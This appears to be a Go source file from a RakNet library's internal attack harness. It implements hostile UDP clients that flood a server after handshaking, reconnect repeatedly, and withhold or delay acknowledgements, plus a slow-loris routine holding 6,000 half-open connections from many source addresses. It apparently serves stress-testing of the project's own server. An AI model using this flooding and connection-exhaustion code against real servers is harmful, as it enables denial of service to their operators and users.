package main

import (
	"errors"
	"fmt"
	"net/netip"
	"slices"
	"sync"
	"time"

	"github.com/raknet-go/raknet/internal/attack/forge"
	"github.com/raknet-go/raknet/internal/udp"
	"github.com/raknet-go/raknet/internal/wire"
	"github.com/raknet-go/raknet/protocol"
)

// vectors are read once, since there are many attacks.
var vectors = sync.OnceValues(forge.Vectors)

// peerNamed finds an attack by a peer.
func peerNamed(kind attackKind, name string) (*forge.Peer, error) {
	all := append(forge.Peers(), forge.NeverAcks(), forge.NeverRead())
	if kind == byVector {
		var err error
		if all, err = vectors(); err != nil {
			return nil, err
		}
	}
	for i := range all {
		if all[i].Name == name {
			return &all[i], nil
		}
	}
	return nil, fmt.Errorf("no attack %q by a %s", name, kind)
}

// client is a hostile client with one connection.
type client struct {
	sock    udp.Socket
	target  udp.Peer
	p       *forge.Peer
	offline chan []byte // what came before there was a connection

	mu     sync.Mutex
	link   *forge.Link
	closed bool       // the server said so
	up     bool       // it said that we are connected
	told   uint32     // the number of the datagram that tell wants acknowledged
	heard  bool       // it was
	owed   []ownedAck // datagrams to acknowledge, oldest first
	made   uint64     // datagrams of the attack
	number []uint32   // scratch

}

// ownedAck is a datagram that is to be acknowledged.
type ownedAck struct {
	number uint32
	at     time.Time
}

const (
	knockAgain = 200 * time.Millisecond
	// knockTime is how long a connection may take, which a flood of this machine's can delay.
	knockTime = 5 * time.Second
)

var errDeaf = errors.New("the server does not answer a hostile client")

// connectHostile connects a client of which the attack asks for it.
func (a *attacker) connectHostile(target netip.AddrPort, p *forge.Peer, guid int64) (*client, error) {
	sock, err := a.listenOn(peerAddress)
	if err != nil {
		return nil, err
	}
	c := &client{
		sock: sock, target: udp.Peer{AddrPort: target}, p: p, link: forge.NewLink(guid),
		offline: make(chan []byte, 16),
	}
	go listen(sock, func(_ *udp.Inbound, d []byte) { c.hear(d) })
	a.clients = []*client{c} // those before it are gone
	return c, c.connect()
}

// hear takes what the server sends.
func (c *client) hear(d []byte) {
	if wire.Classify(d) == wire.KindOffline {
		select {
		case c.offline <- slices.Clone(d):
		default:
		}
		return
	}
	c.mu.Lock()
	defer c.mu.Unlock()
	c.heard = c.heard || forge.Reached(d, c.told)
	number, numbered := c.link.Hear(d)
	if !numbered {
		return
	}
	c.closed = c.closed || forge.Says(d, protocol.IDDisconnect)
	c.up = c.up || forge.Says(d, protocol.IDConnectionRequestAccepted)
	if !c.p.Mute && len(c.owed) < 1<<16 {
		c.owed = append(c.owed, ownedAck{number, time.Now().Add(time.Duration(c.p.LateMS) * time.Millisecond)})
	}
}

// ask sends a datagram until done says that it was answered.
func (c *client) ask(make func() []byte, done func() bool) error {
	for until := time.Now().Add(knockTime); time.Now().Before(until); {
		if err := c.send(make()); err != nil {
			return err
		}
		for again := time.Now().Add(knockAgain); time.Now().Before(again); time.Sleep(200 * time.Microsecond) {
			if done() {
				return nil
			}
		}
	}
	return errDeaf
}

// tell sends a datagram until the server acknowledged it.
func (c *client) tell(d []byte) error {
	number, _, err := wire.ParseDatagramHeader(d)
	if err != nil {
		return err
	}
	c.mu.Lock()
	c.told, c.heard = number, false
	c.mu.Unlock()
	return c.ask(func() []byte { return d }, func() bool { c.mu.Lock(); defer c.mu.Unlock(); return c.heard || c.closed })
}

func (c *client) send(d []byte) error {
	_, err := c.sock.WriteBatch([]udp.Outbound{{Data: d, To: c.target}})
	if udp.IsClosed(err) {
		return err
	}
	return nil
}

func (c *client) connect() error {
	var r wire.OpenReply1
	var r2 wire.OpenReply2
	answer := func(parse func(b []byte) error) func() bool {
		return func() bool {
			select {
			case d := <-c.offline:
				return parse(d) == nil
			default:
				return false
			}
		}
	}
	if err := c.ask(func() []byte { return c.link.Request1(nil) }, answer(r.Parse)); err != nil {
		return err
	}
	if err := c.ask(func() []byte { return c.link.Request2(nil, &r) }, answer(r2.Parse)); err != nil {
		return err
	}
	if c.p.Half {
		return nil
	}
	locked := func(f func() []byte) func() []byte {
		return func() []byte { c.mu.Lock(); defer c.mu.Unlock(); return f() }
	}
	isUp := func() bool { c.mu.Lock(); defer c.mu.Unlock(); return c.up }
	// A connection request that is sent again is a new message.
	if err := c.ask(locked(func() []byte { return c.link.Hello(nil) }), isUp); err != nil {
		return err
	}
	time.Sleep(time.Duration(c.p.LateMS) * time.Millisecond) // nothing may tell that the path is shorter
	if err := c.tell(locked(func() []byte { return c.link.Incoming(nil) })()); err != nil {
		return err
	}
	if c.p.Say != "" {
		return c.tell(locked(func() []byte { return c.link.Message(nil, []byte(c.p.Say)) })())
	}
	return nil
}

// next is the client's next datagram: an ACK when one is due, or one of the attack.
func (c *client) next(out *udp.Outbound) bool {
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.closed {
		return false
	}
	out.To = c.target
	if out.Data = c.acks(out.Data); len(out.Data) > 0 {
		return true
	}
	out.Data = c.p.Make(c.link, c.made, out.Data)
	c.made++
	return true
}

// acks appends an ACK of what is due, if much or old enough.
func (c *client) acks(dst []byte) []byte {
	now := time.Now()
	n := 0
	for n < len(c.owed) && n < 200 && !c.owed[n].at.After(now) {
		n++
	}
	if n == 0 || n < 32 && now.Sub(c.owed[0].at) < 2*time.Millisecond {
		return dst
	}
	c.number = c.number[:0]
	for _, o := range c.owed[:n] {
		c.number = append(c.number, o.number)
	}
	c.owed = c.owed[:copy(c.owed, c.owed[n:])]
	slices.Sort(c.number)
	return forge.Ack(dst, slices.Compact(c.number))
}

// leave says goodbye, so that the server does not go on with a session that nobody has.
func (c *client) leave() {
	c.mu.Lock()
	defer c.mu.Unlock()
	_ = c.send(c.link.Goodbye(nil)) // a closed socket is none of its business
}

// gone reports whether the server closed the connection.
func (c *client) gone() bool {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.closed
}

// endless is how often a peer connects anew after its connection was closed, at most.
const endless = 100_000

// peers attacks over a connection, and over another when that ends.
func (a *attacker) peers(o *Order, target netip.AddrPort) (Attack, error) {
	var r Attack
	p, err := peerNamed(o.Kind, o.Name)
	if err != nil {
		return r, err
	}
	began := time.Now()
	left := *o
	for r.Connects < endless && left.Time > 0 && (o.Count == 0 || r.Sent < o.Count || time.Since(began) < o.Least) {
		c, err := a.connectHostile(target, p, int64(r.Connects+1))
		if err != nil && (!errors.Is(err, errDeaf) || r.Connects == 0) {
			return r, err
		}
		r.Connects++
		left.Time, left.Least = o.Time-time.Since(began), o.Least-time.Since(began)
		if err == nil {
			n, b := c.flood(&left, o.Count-min(r.Sent, o.Count))
			r.Sent += n
			r.Bytes += b
		}
		left.Time = o.Time - time.Since(began)
		if left.Time > 0 && c.gone() { // one that was not closed is kept until the end
			c.sock.Close()
			a.open = slices.DeleteFunc(a.open, func(s udp.Socket) bool { return s == c.sock })
		}
		if o.Once && c.gone() {
			break
		}
	}
	r.Time = time.Since(began)
	return r, nil
}

// flood attacks until the connection is closed.
func (c *client) flood(o *Order, count uint64) (sent, bytes uint64) {
	step := *o
	for began := time.Now(); !c.gone() && time.Since(began) < o.Time && (o.Count == 0 || sent < count || time.Since(began) < o.Least); {
		step.Time = min(o.Time-time.Since(began), 20*time.Millisecond)
		if o.Rate > 0 { // in which there must be some datagrams
			step.Time = max(step.Time, 5*time.Second/time.Duration(o.Rate))
		}
		var left uint64
		if o.Count > 0 {
			left = count - min(sent, count)
		}
		n, b := flood(c.sock, &step, float64(o.Rate), left, c.next)
		sent += n
		bytes += b
	}
	return sent, bytes
}

// lorisClients is how many half-open connections a slow loris has: more than are allowed.
const lorisClients = 6000

// loris opens connections from many addresses, lives in each and finishes none.
func (a *attacker) loris(o *Order, target netip.AddrPort) (Attack, error) {
	var r Attack
	sock, err := a.listenOn(everyAddress)
	if err != nil {
		return r, err
	}
	var mu sync.Mutex
	links := map[netip.Addr]*forge.Link{}
	var due []answered
	go listen(sock, func(in *udp.Inbound, d []byte) {
		mu.Lock()
		defer mu.Unlock()
		if f := forge.FollowCookie(d, nil); f != nil {
			due = append(due, answered{f, in.Local})
		} else if len(d) > 0 && protocol.ID(d[0]) == protocol.IDOpenConnectionReply2 && links[in.Local] == nil {
			links[in.Local] = forge.NewLink(1)
		}
	})
	began := time.Now()
	opened := uint64(0)
	wait := time.Time{}
	rate := 20_000.0
	if o.Rate > 0 {
		rate = float64(o.Rate)
	}
	r.Sent, r.Bytes = flood(sock, o, rate, o.Count, func(out *udp.Outbound) bool {
		mu.Lock()
		defer mu.Unlock()
		out.To = udp.Peer{AddrPort: target}
		if opened < lorisClients {
			out.Local = forge.Source(opened)
			out.Data = forge.Request1(opened, out.Data)
			opened++
			return true
		}
		if len(due) == 0 && time.Since(wait) > time.Second {
			wait = time.Now()
			for at, l := range links {
				due = append(due, answered{l.Ping(nil), at})
			}
		}
		if len(due) == 0 {
			return false
		}
		out.Data, out.Local = append(out.Data, due[0].data...), due[0].at
		due = due[1:]
		return true
	})
	r.Connects, r.Time = len(links), time.Since(began)
	return r, nil
}
